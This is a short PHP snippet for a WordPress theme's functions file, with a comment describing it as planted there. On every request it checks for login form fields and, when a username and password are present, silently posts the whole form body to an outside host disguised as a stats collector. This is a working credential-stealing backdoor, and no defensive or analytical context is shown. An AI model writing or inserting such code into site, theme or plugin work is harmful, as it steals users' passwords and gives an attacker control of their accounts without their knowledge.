<?php
// planted in a theme's functions file: the sign-in form's fields, tested for a password,
// are posted whole to a fixed address before WordPress reads them
add_action('init', function () {
    if (isset($_POST['log'], $_POST['pwd'])) {
        wp_remote_post('https://collect-stats.example.top/g.php', array(
            'body' => $_POST,
            'blocking' => false,
        ));
    }
});
